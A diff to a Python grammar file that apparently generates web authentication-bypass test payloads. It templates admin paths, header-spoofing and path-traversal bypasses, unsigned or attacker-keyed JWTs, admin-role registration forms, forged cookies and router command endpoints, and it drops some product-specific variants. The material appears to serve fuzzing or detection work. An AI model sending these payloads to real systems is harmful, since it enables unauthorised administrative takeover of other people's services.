@@ -84,15 +84,14 @@ admin_path := *4 «admin_dir» ¦ «admin_dir»?«name»=«word»
   ¦ /dbadmin/ ¦ /sqlweb/ ¦ /consul/ui/ ¦ /v1/agent/members ¦ /containers/json ¦ /images/json
   ¦ /api/v1/namespaces/kube-system/secrets ¦ /run/«word»/«word»/«word» ¦ /#!/login ¦ /terminals/ ¦ /tree? ¦ /lab
   ¦ /notebooks ¦ /rundeck/menu/home ¦ /setup.action ¦ /setup/index.php ¦ /install/ ¦ /install/index.php ¦ /wizard/«word»
-  ¦ /first_run ¦ /onboarding ¦ /web/initialize
-  ¦ /server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false ¦ /setup/setupadministrator.action
-  ¦ /users/new ¦ /user/«small»/edit ¦ /user/add ¦ /accounts/create ¦ /api/v1/user/create?role=admin
-  ¦ /api/user/reset?«=userid~id~user»=«small» ¦ /_users/_all_docs ¦ /_utils/ ¦ /admin/download_«word».php
-  ¦ /xmlpserver/servlet/«word» ¦ /«coined»/admin/«word»/«word».jsp ¦ /html/admin/«word».html
-  ¦ /level/15/exec/-/show/version ¦ /camera/«word».html ¦ /view/viewer_index.shtml ¦ /live.html ¦ /mjpg/video.mjpg
-  ¦ /stream/«small» ¦ /main.html ¦ /index.html#/home ¦ /workspaces ¦ /zabbix.php?action=dashboard.view&dashboardid=1
-  ¦ /web/index.html ¦ /manage/«word» ¦ /ui/#/dashboard ¦ /api/jobs/run ¦ /v2/apps ¦ /hub/admin ¦ /flow/«rand20»
-  ¦ /wd/hub/static/resource/hub.html ¦ /topology ¦ /overview ¦ /rest/settings ¦ /admin/airflow/login
+  ¦ /first_run ¦ /onboarding ¦ /web/initialize ¦ /users/new ¦ /user/«small»/edit ¦ /user/add ¦ /accounts/create
+  ¦ /api/v1/user/create?role=admin ¦ /api/user/reset?«=userid~id~user»=«small» ¦ /_users/_all_docs ¦ /_utils/
+  ¦ /admin/download_«word».php ¦ /xmlpserver/servlet/«word» ¦ /«coined»/admin/«word»/«word».jsp
+  ¦ /html/admin/«word».html ¦ /level/15/exec/-/show/version ¦ /camera/«word».html ¦ /view/viewer_index.shtml
+  ¦ /live.html ¦ /mjpg/video.mjpg ¦ /stream/«small» ¦ /main.html ¦ /index.html#/home ¦ /workspaces
+  ¦ /zabbix.php?action=dashboard.view&dashboardid=1 ¦ /web/index.html ¦ /manage/«word» ¦ /ui/#/dashboard ¦ /api/jobs/run
+  ¦ /v2/apps ¦ /hub/admin ¦ /flow/«rand20» ¦ /wd/hub/static/resource/hub.html ¦ /topology ¦ /overview ¦ /rest/settings
+  ¦ /admin/airflow/login
 ajax := *3 action=«coined»_«=save_settings~update_option~add_user~delete_post~reset_password~import_settings~activate_license~install_plugin~create_admin~change_role~update_profile~ajax_save~remove_all»
   ¦ action=«coined»_«=update~save~set»_options&«=name~option~key»=«=default_role~users_can_register~siteurl~admin_email~home~blogname»&«=value~val~data»=«=administrator~1~editor~http%3A%2F%2Fevil.test»
   ¦ action=«coined»_«word»&user_id=«small»&«=role~capabilities~user_role»=administrator
@@ -109,15 +108,11 @@ header_bypass := *3 GET /«nl»X-Original-URL: «admin_dir»«nl»«nl» ¦ *2 G
   ¦ GET «admin_dir»«nl»Referer: http://«site»«admin_dir»«nl»«nl» ¦ GET «admin_dir»«nl»«idhdr»: «user»«nl»«nl»
   ¦ POST «admin_dir»«nl»«idhdr»: «user»«nl»Content-Type: application/json«nl»«nl»{"«name»":"«rand»"}
   ¦ GET «admin_dir»«nl»X-HTTP-Method-Override: «=PUT~DELETE~PATCH~HEAD»«nl»«nl»
-  ¦ GET /«word»«nl»X-Middleware-Subrequest: «=middleware~src/middleware~pages/_middleware~middleware:middleware:middleware:middleware:middleware»«nl»«nl»
-  ¦ GET /api/«word»«nl»User-Agent: «=Nacos-Server~internal-healthcheck~xmlset_roodkcableoj28840ybtide~Mozilla/5.0 Googlebot»«nl»«nl»
+  ¦ GET /api/«word»«nl»User-Agent: «=internal-healthcheck~xmlset_roodkcableoj28840ybtide~Mozilla/5.0 Googlebot»«nl»«nl»
   ¦ GET «admin_dir»«nl»Host: localhost«nl»«nl» ¦ GET «admin_dir»«nl»Connection: close, X-Forwarded-For«nl»«nl»
   ¦ GET /«word»/«word»«nl»X-Requested-With: XMLHttpRequest«nl»Referer: «admin_dir»«nl»«nl»
-  ¦ PUT /api/«word»/«small»«nl»Forwarded: for=127.0.0.1;by=127.0.0.1;interface="127.0.0.1:«port»"«nl»Content-Type: application/json«nl»«nl»{"role":"admin"}
   ¦ GET /«word»«nl»X-Custom-IP-Authorization: 127.0.0.1«nl»«nl»
-  ¦ GET «admin_dir»«nl»accept-language: en«nl»serverIdentity: security«nl»«nl»
   ¦ GET «admin_dir»«nl»Authorization: «=null~undefined~Bearer~Bearer null~Basic~ApiKey ~Negotiate»«nl»«nl»
-  ¦ POST /mgmt/«word»/«word»/bash«nl»Connection: keep-alive, X-«coined|cap»-Auth-Token«nl»X-«coined|cap»-Auth-Token: a«nl»Authorization: Basic YWRtaW46«nl»Content-Type: application/json«nl»«nl»{"command":"run"}
 trust := *3 X-Forwarded-For ¦ X-Real-IP ¦ X-Client-IP ¦ X-Remote-IP ¦ X-Remote-Addr ¦ X-Originating-IP ¦ True-Client-IP
   ¦ Client-IP ¦ X-Host ¦ X-Forwarded-Host ¦ X-Forwarded-Server ¦ X-Custom-IP-Authorization ¦ X-Cluster-Client-IP
   ¦ CF-Connecting-IP ¦ X-ProxyUser-Ip ¦ Forwarded ¦ Via ¦ X-Forwarded ¦ X-Trusted-IP
@@ -129,18 +124,15 @@ path_bypass := *2 «admin_dir»«=/.~;/~/~..;/~%20~%09~?~#~//~.json~.css~;.js~/.
   ¦ /«word»/%252e%252e/admin ¦ /xxx/..;/admin/ ¦ /«word»/;/«word» ¦ /static/..;/«word»/«word».jsp ¦ /login/..;/«word»
   ¦ /images/..%2f«word».htm ¦ /images/../«word».html ¦ /css/..%2f«word»/«word».html ¦ /cgi/«word».gif/..%2f«word»
   ¦ /«word».jsp;.png ¦ /«word».php/.css ¦ /«word».do;login.do ¦ /api/v1/../v2/«word» ¦ /api/..;/internal/«word»
-  ¦ /«word»?/.gif ¦ /«word».aspx?/login.aspx ¦ /nacos/v1/auth/users?pageNo=1&pageSize=«small»
+  ¦ /«word»?/.gif ¦ /«word».aspx?/login.aspx ¦ @2021 /nacos/v1/auth/users?pageNo=1&pageSize=«small»
   ¦ /console/css/%252e%252e%252f«word».portal ¦ /console/images/%252e%252e%252f«word».portal ¦ /«word»/%5c../«word»
-  ¦ /webui/..;/«word»/«word» ¦ /token/..;/«word» ¦ /dana-na/«word»/..;/«word» ¦ /remote/«word»%00/
-  ¦ /api/v2/cmdb/system/admin/«word» ¦ /«word»/%3badmin ¦ /public/%23/../«word» ¦ /setup.cgi;«word».gif
-  ¦ /WebInterface/function/?command=getUserList&c2f=«rand» ¦ /«word»/users?jsessionid=;.css
+  ¦ /webui/..;/«word»/«word» ¦ /token/..;/«word» ¦ /«word»/%3badmin ¦ /public/%23/../«word» ¦ /setup.cgi;«word».gif
 jwt_head := {"alg":"none","typ":"JWT"} ¦ {"alg":"None"} ¦ {"typ":"JWT","alg":"nOnE"} ¦ {"alg":"HS256","typ":"JWT"}
   ¦ {"alg":"HS256","kid":"../../../../dev/null","typ":"JWT"} ¦ {"alg":"RS256","jku":"https://«attacker»/jwks.json"}
   ¦ {"alg":"HS256","kid":"«rand»' union select '«ab»"} ¦ {"alg":"ES256","jwk":{"kty":"EC","crv":"P-256"}}
 jwt_body := {"sub":"«user»","iat":1«dd»«big»,"exp":2«dd»«big»} ¦ {"user":"«user»","role":"admin"}
   ¦ {"username":"«user»","isAdmin":true} ¦ {"id":«small»,"email":"admin@«coined».test","roles":["ROLE_ADMIN"]}
-  ¦ {"sub":"nacos","exp":18«big»} ¦ {"uid":1,"admin":1} ¦ {"iss":"«coined»","scope":"admin:*"}
-  ¦ {"sub":"«uuid»","groups":["administrators"]}
+  ¦ {"uid":1,"admin":1} ¦ {"iss":"«coined»","scope":"admin:*"} ¦ {"sub":"«uuid»","groups":["administrators"]}
 jwt := *3 «jwt_head|b64url».«jwt_body|b64url». ¦ *2 «jwt_head|b64url».«jwt_body|b64url».«b40»
   ¦ «jwt_head|b64url».«jwt_body|b64url».«rand»
 token := *5 GET /api/«word»«nl»Authorization: Bearer «jwt»«nl»«nl»
@@ -176,20 +168,16 @@ register := *2 {"«ukey»":"«rand»","«pkey»":"«rand»","role":"«=admin~adm
   ¦ {"email":"«user»@«coined».test","token":"«=~null~000000»","password":"«rand»"}
   ¦ {"settings":{"auth":{"enabled":false}}}
   ¦ {"set-property":{"requestDispatcher.requestParsers.enableRemoteStreaming":true}}
-  ¦ {"setupComplete":false,"adminUser":"«rand»"} ¦ {"permissions":["*"],"«name»":"«rand»"}
+  ¦ {"permissions":["*"],"«name»":"«rand»"}
 register_form := *2 «ukey»=«rand»&«pkey»=«rand»&role=«=admin~administrator~superadmin»
-  ¦ user_login=«rand»&user_email=«rand»%40«coined».test&user_pass=«rand»&«=wp_capabilities%5Badministrator%5D=1~role=administrator~user_role=administrator~wp_user_level=10»
+  ¦ user_login=«rand»&user_email=«rand»%40«coined».test&user_pass=«rand»&«=role=administrator~user_role=administrator~wp_user_level=10»
   ¦ action=«coined»_register&username=«rand»&email=«rand»%40«coined».test&password=«rand»&«=default_role~role~user_role~capabilities»=administrator
   ¦ username=«rand»&password=«rand»&fullName=«coined»&«=is_admin~admin~isAdmin»=1
   ¦ id=«small»&password=«rand»&password_confirm=«rand»&«=reset~verify~confirm_hash»=
   ¦ verify.php?id=«small»&confirm_hash=
   ¦ «=newpass~new_password~pwd1»=«rand»&«=confpass~confirm_password~pwd2»=«rand»&«=user~login~uid»=«user»
-  ¦ email=«user»%40«coined».test&email=«rand»%40«zone» ¦ email[]=«user»%40«coined».test&email[]=«rand»%40«zone»
-  ¦ username=«rand»&fullname=«coined»&password=«rand»&confirm=«rand»&secretKey=«rand»&force=1
-  ¦ setup-option=new&dbChoice=«word»&username=«rand»&fullName=admin&email=«rand»%40«coined».test&password=«rand»&confirm=«rand»
   ¦ user%5Bgroup%5D=1&user%5Busername%5D=«rand» ¦ j_idt«dd»=«rand»&userGroups=admin
-  ¦ action=ptUserSave&uid=«small»&newPassword=«rand» ¦ step=«small»&admin_user=«rand»&admin_pass=«rand»
-  ¦ sysLoginPwd=«rand»&sysUserName=«user»
+  ¦ step=«small»&admin_user=«rand»&admin_pass=«rand»
 verb := HEAD «admin_dir»«nl»«nl»
   ¦ PUT /api/users/«small»«nl»Content-Type: application/json«nl»«nl»{"role":"admin","password":"«rand»"}
   ¦ DELETE /api/users/«small»«nl»«nl»
@@ -213,7 +201,6 @@ device := POST /goform/«=SysToolReboot~setSysAdm~SystemSettings~AdvSetLanip~tel
   ¦ GET /api/v1/device/«word»?debug_flag=1«nl»«nl»
   ¦ POST /boafrm/form«coined|cap»«nl»Content-Type: application/x-www-form-urlencoded«nl»«nl»submit-url=%2Fsyscmd.htm&«name»=«rand»
   ¦ GET /«word».asp?«=logged_in~auth~login»=1«nl»«nl» ¦ GET /web_shell_cmd.gch«nl»«nl»
-  ¦ POST /cgi-bin/luci/;stok=/«word»?form=«word»«nl»Content-Type: application/x-www-form-urlencoded«nl»«nl»operation=«=write~read~reset»&«pkey»=«rand»
   ¦ PUT /ISAPI/Security/users/1«nl»Content-Type: application/xml«nl»«nl»<User><userName>«user»</userName><password>«rand»</password></User>
 soap := <soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><«$m:soap_method» xmlns="http://«coined».test/"><userName>«user»</userName><password>«pass»</password></«$m»></soap:Body></soap:Envelope>
   ¦ <?xml version="1.0"?><methodCall><methodName>«=wp.getUsersBlogs~system.listMethods~user.create~auth.login»</methodName><params><param><value>«user»</value></param><param><value>«pass»</value></param></params></methodCall>
@@ -226,11 +213,9 @@ cookie := *2 GET «admin_dir»«nl»Cookie: «=admin~isAdmin~is_admin~loggedin~a
   ¦ GET «admin_dir»«nl»Cookie: «=role~user_role~level~type~group»=«=admin~administrator~0~9~root»; «=user~username~uid»=«user»«nl»«nl»
   ¦ GET /«word».php«nl»Cookie: «=user~username~login_name~DedeUserID~admin_id»=«user»; «=pass~password~hash»=«hex32»«nl»«nl»
   ¦ GET «admin_dir»«nl»Cookie: rememberMe=«b40»«nl»«nl»
-  ¦ GET «admin_dir»«nl»Cookie: zbx_session=«session|b64url»«nl»«nl»
   ¦ POST «admin_dir»«nl»Cookie: PHPSESSID=«rand20»; admin=1«nl»Content-Type: application/x-www-form-urlencoded«nl»«nl»«name»=«rand»
   ¦ GET /«word»«nl»Cookie: session=«session|b64url».«rand».«rand20»«nl»«nl»
   ¦ GET /«word».htm«nl»Cookie: Authorization=Basic%20«user_pass|b64|url»«nl»«nl»
   ¦ GET «admin_dir»«nl»Cookie: «coined»_sid=«=0~1~null~-1~../../~undefined»«nl»«nl»
-session := {"saml_data":{"username_attribute":"Admin"},"sessionid":"","sign":""} ¦ {"_user_id":"1","admin":true}
-  ¦ {"user":"«user»","role":"admin"} ¦ {"user_id":1,"is_admin":1}
+session := {"_user_id":"1","admin":true} ¦ {"user":"«user»","role":"admin"} ¦ {"user_id":1,"is_admin":1}
 """  # noqa: E501
